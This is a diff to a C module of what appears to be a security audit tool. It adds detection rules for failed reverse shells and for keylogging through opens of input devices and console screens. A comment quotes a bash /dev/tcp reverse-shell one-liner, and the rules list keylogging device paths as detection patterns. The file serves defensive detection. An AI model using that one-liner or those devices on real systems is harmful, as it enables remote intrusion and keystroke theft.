@@ -25,6 +25,11 @@
  *        connecting an inet socket itself, which only its /dev/tcp and
  *        /dev/udp redirections do (`bash -i >& /dev/tcp/H/P 0>&1`); the
  *        message says whether the peer answered.
+ *        high: a reverse shell whose peer did not answer: an interactive
+ *        shell (no -c string, no script) whose stdin or stdout is any
+ *        socket (a socketpair, a unix or loopback socket the program fell
+ *        back to), run by a process that (or whose parent before the fork)
+ *        tried an inet peer outside allow_connect and not on loopback.
  *   backdoor.bind_shell      critical  the same with an accepted connection.
  *   backdoor.dropped_payload critical  exec or PROT_EXEC mapping of a file
  *        the run wrote outside the workdir or under a hidden name, also when
@@ -72,6 +77,11 @@
  *   backdoor.writable_library high  PROT_EXEC mapping of a file under /tmp,
  *        /var/tmp, /dev/shm or HOME (outside the workdir) not written by the
  *        run (those are dropped_payload).  LD_PRELOAD is not visible: skipped.
+ *   backdoor.keylogging      high  an open, succeeded or not, of a keyboard or
+ *        input device (/dev/input/eventN, /dev/input/by-path/...-kbd,
+ *        /dev/uinput, /dev/hidrawN) or a console's screen (/dev/vcsN);
+ *        medium: other /dev/input nodes, /dev/console, /dev/ttyN
+ *        (keylog.c).  Raw mode and TIOCSTI/TIOCLINUX are ioctls: not seen.
  *   backdoor.beaconing       high  >= 3 contacts with the same destination
  *        spread over >= 2 s at roughly regular intervals (coefficient of
  *        variation of the gaps <= 0.5); medium when the destination is
@@ -183,6 +193,9 @@ static int backdoor_on_event(void *state, const struct da_event *ev, char *err, 
 		break;
 	}
 	case DA_EV_FILE_OPEN:
+		check_input_capture(st, ev);
+		on_write_like(st, ev);
+		break;
 	case DA_EV_FILE_WRITE:
 	case DA_EV_FILE_RENAME:
 	case DA_EV_FILE_LINK: on_write_like(st, ev); break;
@@ -264,6 +277,8 @@ static const struct da_rule_decl backdoor_rules[] = {
 	 "a decoy credential planted by this audit leaving the process"},
 	{"backdoor.writable_library", DA_SEV_HIGH,
 	 "executable mapping of a library in a writable place the run did not write"},
+	{"backdoor.keylogging", DA_SEV_HIGH,
+	 "an open of a keyboard, input device, console or console screen (failed or not)"},
 	{"backdoor.beaconing", DA_SEV_HIGH,
 	 "regular repeated contacts with one destination"},
 	{0},
